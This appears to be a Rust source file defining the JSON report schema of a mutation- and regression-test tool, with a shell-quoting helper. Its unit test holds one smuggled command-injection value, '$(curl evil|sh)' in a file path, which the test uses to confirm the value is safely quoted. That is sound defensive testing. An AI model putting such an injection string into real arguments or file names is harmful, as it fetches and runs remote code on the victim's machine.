//! Everything that a reader sees, not rendered yet. Its JSON form is a contract with other programs:
//! fields are added, never renamed. What can't be computed is null, what isn't built yet is absent.

use std::collections::{BTreeMap, BTreeSet};

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::{
    CatchKind, CommitSha, Confidence, Critique, FindingId, Intent, Level, MutantId, MutantSource, MutantStatus,
    Rejection, RepoPath, Warning,
};

/// The version of the report's form.
pub const REPORT_SCHEMA_VERSION: u32 = 1;

/// What a run found out.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    /// At least one regression at or above the threshold.
    Caught,
    /// It was tested, and none was found.
    Clear,
    /// The change holds nothing that can be tested.
    NothingToTest,
    /// It could not be found out.
    Inconclusive,
}

/// The program that made the report.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Tool {
    /// `jittest`
    pub name: String,
    /// Its version.
    pub version: String,
}

/// One side of the change.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Side {
    /// The commit; null for what is staged or not committed.
    pub sha: Option<CommitSha>,
}

/// Why a run is inconclusive.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Cause {
    /// The step that failed.
    pub component: String,
    /// What happened.
    pub what: String,
    /// Why: its last lines.
    pub why: String,
    /// What that means.
    pub impact: String,
    /// The one-line fix.
    pub fix: String,
}

/// The mutant of a catch. `original` stands on the lines `line_start..=line_end` of head, whole lines.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct CatchMutant {
    /// Its id.
    pub id: MutantId,
    /// What was done.
    pub description: String,
    /// Why someone would make that mistake.
    pub rationale: String,
    /// What stood there.
    pub original: String,
    /// What stands there instead.
    pub mutated: String,
    /// First line.
    pub line_start: u32,
    /// Last line.
    pub line_end: u32,
}

/// Whether a test passes the gate of formatter, linter and type checker.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Quality {
    /// Whether it does.
    pub passed: bool,
    /// Errors.
    pub errors: u32,
    /// Warnings.
    pub warnings: u32,
}

/// The test of a catch.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct CatchTest {
    /// The framework's id.
    pub framework: String,
    /// The file to write.
    pub path: RepoPath,
    /// The whole file.
    pub code: String,
    /// Runs it in a clean checkout.
    pub command: Vec<String>,
    /// Unit or end to end.
    pub level: Level,
    /// `offline`, or the model's name.
    pub provenance: String,
    /// Share of reruns that did not agree with the others.
    pub flaky_risk: f64,
    /// How often it was written.
    pub iterations: u32,
    /// How often it was repaired.
    pub retries: u32,
    /// The gate; absent where the test could not be held to it.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub quality: Option<Quality>,
}

impl CatchTest {
    /// The command as a line for a shell: whatever a repository names its folders, each argument is one word of it.
    pub fn command_line(&self) -> String {
        self.command.iter().map(|argument| shell_word(argument)).collect::<Vec<_>>().join(" ")
    }

    /// What a Markdown fence around the code is marked with.
    pub fn fence_language(&self) -> &'static str {
        if self.framework == "pytest" { "python" } else { "" }
    }
}

/// An argument as one word of a POSIX shell.
fn shell_word(argument: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-./=:,@%+".contains(c);
    if !argument.is_empty() && argument.chars().all(plain) {
        return argument.to_owned();
    }
    format!("'{}'", argument.replace('\'', "'\\''"))
}

/// Runs on one side.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Runs {
    /// How many passed.
    pub passed: u32,
    /// How many failed.
    pub failed: u32,
}

/// What was run to prove a catch.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Evidence {
    /// On base.
    pub base: Runs,
    /// On head.
    pub head: Runs,
    /// The mutants that the test kills.
    pub mutants_killed: Vec<MutantId>,
}

/// One finding.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Catch {
    /// The same across pushes while the finding is the same.
    pub id: FindingId,
    /// Regression or hardening.
    pub kind: CatchKind,
    /// The file.
    pub file: RepoPath,
    /// The line in head that it is about.
    pub line: u32,
    /// Qualified name of the symbol.
    pub symbol: String,
    /// How sure.
    pub confidence: Confidence,
    /// What base does; null for a hardening.
    pub before: Option<String>,
    /// What head does; null for a hardening.
    pub now: Option<String>,
    /// The question to the author; null for a hardening.
    pub question: Option<String>,
    /// What it means for a user.
    pub effect: String,
    /// Why we are that sure.
    pub reasons: Vec<String>,
    /// What a judge said; null without one.
    pub judge: Option<String>,
    /// The mutant; null for a regression that the change itself shows.
    pub mutant: Option<CatchMutant>,
    /// The test.
    pub test: CatchTest,
    /// The proof.
    pub evidence: Evidence,
}

/// One mutant in the list of all.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct MutantRow {
    /// Its id.
    pub id: MutantId,
    /// The file.
    pub file: RepoPath,
    /// First line.
    pub line_start: u32,
    /// Last line.
    pub line_end: u32,
    /// What became of it.
    pub status: MutantStatus,
    /// Who made it.
    pub source: MutantSource,
    /// The tests that killed it: ids of generated ones, node ids of the repository's own.
    pub killed_by: Vec<String>,
    /// What was done.
    pub description: String,
}

/// How strong a test's oracle is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum OracleStrength {
    /// Asserts on outcomes.
    Strong,
    /// Asserts on calls only.
    Weak,
    /// Asserts nothing.
    None,
}

/// A test that the pull request adds or changes.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct OwnTest {
    /// Its file.
    pub path: RepoPath,
    /// Its name.
    pub name: String,
    /// Whether it fails on base: whether it shows the change at all; null where it could not be run there.
    pub fails_on_base: Option<bool>,
    /// How strong its oracle is.
    pub oracle: OracleStrength,
    /// Mutants of the changed lines that it kills.
    pub mutants_killed: Vec<MutantId>,
}

/// How much of the change was reached.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Coverage {
    /// Share of the changed lines, 0 to 1.
    pub changed_lines: Option<f64>,
    /// Share of the changed branches, 0 to 1.
    pub changed_branches: Option<f64>,
    /// `path:line`
    pub untested_lines: Vec<String>,
    /// `path:from -> to`
    pub untested_branches: Vec<String>,
    /// In words.
    pub missing_edge_cases: Vec<String>,
}

/// The denominators.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct Counts {
    /// Things to test.
    pub targets: u32,
    /// Groups of them.
    pub shards: u32,
    /// Mutants made.
    pub mutants: u32,
    /// Mutants that nothing can tell from head.
    pub mutants_equivalent: u32,
    /// Tests that were generated.
    pub tests_generated: u32,
    /// Tests that were kept.
    pub tests_kept: u32,
    /// What was dropped, by reason.
    pub dropped: BTreeMap<String, u32>,
}

/// How long a stage took.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct StageTime {
    /// The stage.
    pub name: String,
    /// Wall-clock seconds.
    pub seconds: f64,
}

/// What models cost.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Cost {
    /// Calls.
    pub model_calls: u32,
    /// Tokens read.
    pub prompt_tokens: u64,
    /// Tokens written.
    pub completion_tokens: u64,
    /// Dollars, where prices are known.
    pub usd: f64,
}

/// What one sandbox run used.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct SandboxUse {
    /// What it was for: `generate`, `execute`.
    pub purpose: String,
    /// Wall-clock seconds.
    pub seconds: f64,
    /// CPU seconds, where the sandbox can tell.
    pub cpu_seconds: Option<f64>,
    /// Peak memory, where the sandbox can tell.
    pub peak_memory_bytes: Option<u64>,
    /// Bytes that went in.
    pub bytes_in: u64,
    /// Bytes that came out.
    pub bytes_out: u64,
}

/// A report.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
pub struct Report {
    /// The version of this form.
    pub schema_version: u32,
    /// Who made it.
    pub tool: Tool,
    /// What the change is compared with.
    pub base: Side,
    /// The change.
    pub head: Side,
    /// What was found out.
    pub verdict: Verdict,
    /// Why it is inconclusive.
    pub causes: Vec<Cause>,
    /// What the change means to do.
    pub intent: Option<Intent>,
    /// The findings, best first.
    pub catches: Vec<Catch>,
    /// What was rejected.
    pub rejected: Vec<Rejection>,
    /// All mutants.
    pub mutants: Vec<MutantRow>,
    /// The tests that the pull request adds or changes; absent until they are judged.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub own_tests: Option<Vec<OwnTest>>,
    /// How much of the change was reached.
    pub coverage: Option<Coverage>,
    /// The critic.
    pub critique: Option<Critique>,
    /// The denominators.
    pub counts: Counts,
    /// Which bounds were hit.
    pub limits_hit: Vec<String>,
    /// How long the stages took.
    pub stages: Vec<StageTime>,
    /// What models cost.
    pub cost: Cost,
    /// What the sandbox runs used.
    #[serde(default)]
    pub sandbox_runs: Vec<SandboxUse>,
    /// What went less well than it should have.
    pub warnings: Vec<Warning>,
    /// The lines of head that the forge's own diff shows, per file: where a review comment may stand.
    #[serde(skip)]
    #[schemars(skip)]
    pub commentable: BTreeMap<RepoPath, BTreeSet<u32>>,
}

impl Report {
    /// The rule by which a target is among `rejected` that was not looked at.
    pub const NOT_LOOKED_AT: &str = "not-looked-at";

    /// The rule by which a mutant is among `rejected` for which there was no time.
    pub const NOT_RUN: &str = "not-run";
    /// The rule by which a mutant is among `rejected` that neither a test nor the explorer reached.
    pub const NOT_REACHED: &str = "not-reached";

    /// How many targets were looked at.
    pub fn looked_at(&self) -> u32 {
        let missed = self.rejected.iter().filter(|row| row.rule == Self::NOT_LOOKED_AT).count();
        self.counts.targets.saturating_sub(u32::try_from(missed).unwrap_or(u32::MAX))
    }

    /// A report that says nothing yet.
    pub fn empty(verdict: Verdict) -> Self {
        Self {
            schema_version: REPORT_SCHEMA_VERSION,
            tool: Tool { name: "jittest".to_owned(), version: env!("CARGO_PKG_VERSION").to_owned() },
            base: Side { sha: None },
            head: Side { sha: None },
            verdict,
            causes: Vec::new(),
            intent: None,
            catches: Vec::new(),
            rejected: Vec::new(),
            mutants: Vec::new(),
            own_tests: None,
            coverage: None,
            critique: None,
            counts: Counts::default(),
            limits_hit: Vec::new(),
            stages: Vec::new(),
            cost: Cost::default(),
            sandbox_runs: Vec::new(),
            warnings: Vec::new(),
            commentable: BTreeMap::new(),
        }
    }

    /// The regressions at or above `threshold`, best first.
    pub fn regressions(&self, threshold: Confidence) -> impl Iterator<Item = &Catch> {
        self.catches.iter().filter(move |c| c.kind == CatchKind::Regression && c.confidence >= threshold)
    }

    /// The hardenings, best first.
    pub fn hardenings(&self) -> impl Iterator<Item = &Catch> {
        self.catches.iter().filter(|c| c.kind == CatchKind::Hardening)
    }
}

#[cfg(test)]
mod tests {
    use super::shell_word;

    #[test]
    fn an_argument_is_one_word_of_a_shell_whatever_it_holds() {
        for plain in ["python", "-m", "tests/test_x.py", "a=b", "pythonpath=src"] {
            assert_eq!(shell_word(plain), plain);
        }
        for (argument, word) in [
            ("", "''"),
            ("pythonpath=src lib", "'pythonpath=src lib'"),
            ("tests/$(curl evil|sh)/test_x.py", "'tests/$(curl evil|sh)/test_x.py'"),
            ("a'b;c", "'a'\\''b;c'"),
            ("~/x", "'~/x'"),
            ("{a,b}", "'{a,b}'"),
        ] {
            assert_eq!(shell_word(argument), word);
        }
    }
}
